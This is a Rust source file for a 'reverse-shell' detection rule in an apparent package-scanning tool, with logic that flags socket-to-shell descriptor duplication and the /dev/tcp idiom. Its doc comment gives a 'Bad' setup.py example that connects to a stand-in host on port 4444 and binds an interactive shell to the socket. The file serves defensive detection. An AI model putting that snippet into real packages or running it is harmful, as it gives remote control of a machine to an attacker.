//! ## What it detects
//!
//! A socket whose descriptor becomes the input and output of a shell, or the `/dev/tcp` idiom.
//!
//! ## Why it is bad
//!
//! It hands the machine to whoever listens.
//!
//! ## Innocent lookalikes
//!
//! Terminal emulators use `pty` without a socket.
//!
//! ## Bad
//!
//! ```python setup.py
//! import socket, os, subprocess
//! s = socket.socket()
//! s.connect(('x.example.invalid', 4444))
//! os.dup2(s.fileno(), 0)
//! subprocess.call(['/bin/sh', '-i'])
//! ```
//!
//! ## Good
//!
//! ```python setup.py
//! import pty
//! pty.spawn('/bin/sh')
//! ```

use fondaco_python::scripts::{Act, acts};
use fondaco_python::{Api, Call};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity};

use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("reverse-shell"),
    title: "opens a reverse shell",
    severity: Severity::Critical,
    confidence: Confidence::High,
    behaviour: Some(Behaviour::CommandAndControl),
    weight: 2.6,
    check,
};

fn check(package: &Package<'_>, hits: &mut Hits) {
    for unit in package.units() {
        let is_script = unit.layer > 0 && unit.encoders.is_empty();
        if is_script && acts(unit.language, &unit.text).contains(&Act::ReverseShell) {
            hits.line(unit, 1, "a script that ties a shell to a socket");
        }
        let has = |api: Api| unit.calls.iter().find(|call| call.api == Some(api));
        let shell = unit.calls.iter().any(|call| call.api == Some(Api::Shell) && starts_shell(call));
        if let (Some(_), Some(call), true) = (has(Api::Socket), has(Api::Duplicate), shell) {
            hits.call(unit, call, "a socket becomes the input and output of a shell");
        }
        let piped = |call: &&Call| call.texts().iter().any(|text| text.contains("/dev/tcp/"));
        if let Some(call) = unit.calls.iter().filter(|call| call.api == Some(Api::Shell)).find(piped) {
            hits.call(unit, call, "a shell talks to a socket through /dev/tcp");
        }
    }
}

/// Whether a command is a shell, or can be anything: its text is not known.
fn starts_shell(call: &Call) -> bool {
    const SHELLS: [&str; 9] =
        ["sh", "bash", "zsh", "dash", "ksh", "cmd", "cmd.exe", "powershell", "powershell.exe"];
    let texts = call.texts();
    let first = texts.first().map(|text| text.split_whitespace().next().unwrap_or_default());
    call.callee == "pty.spawn" || first.is_some_and(|word| SHELLS.contains(&word.rsplit('/').next().unwrap_or_default()))
}
